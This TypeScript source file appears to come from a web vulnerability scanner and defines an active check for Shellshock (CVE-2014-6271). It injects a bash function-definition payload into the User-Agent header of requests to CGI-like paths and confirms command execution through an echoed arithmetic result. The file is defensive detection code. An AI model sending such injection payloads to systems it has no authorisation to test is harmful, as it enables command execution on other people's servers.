import { placeOfHeader } from '../../attacks/operations.js';
import { hasTechnology, isAtLeast, proveOutputBy } from '../../attacks/prove.js';
import { pathOf, withHeader } from '../../attacks/requests.js';
import type { ActiveCheck, Prober, Proof } from '../../check.js';
import type { ProbeRequest } from '../../exchange.js';

export const check: ActiveCheck = {
  id: 'shellshock',
  mode: 'active',
  scope: 'operation',
  places: [],
  writes: false,
  technologies: [],
  title: 'Bash runs what follows a function in a header',
  severity: 'critical',
  aliases: ['ZAP-10048', 'CVE-2014-6271', 'CWE-78', 'WASC-31'],
  cwe: 78,
  fix: 'Update Bash, and replace CGI programs.',
  references: ['https://www.cve.org/CVERecord?id=CVE-2014-6271'],
  cost: { low: 1, medium: 1, high: 1, insane: 1 },
  attack: async (target, prober) => (target.scope === 'operation' ? prove(target.request, prober) : []),
};

async function prove(request: ProbeRequest, prober: Prober): Promise<readonly Proof[]> {
  const isCgi =
    /\/cgi-bin\/|\.(?:cgi|sh)$/i.test(pathOf(request.url)) || hasTechnology(prober, /\bcgi\b|bash/) === true;
  if (!isCgi && !isAtLeast(prober, 'high')) return [];
  const send = (payload: string) => prober.request(withHeader(request, 'User-Agent', payload));
  const proof = await proveOutputBy(
    prober,
    placeOfHeader(request, 'User-Agent'),
    send,
    ({ a, b, product }, marker) => ({
      payload: `() { :; }; echo; echo ${marker}$((${a}*${b}))${marker}`,
      expected: marker + product + marker,
    }),
  );
  return proof === undefined ? [] : [proof];
}
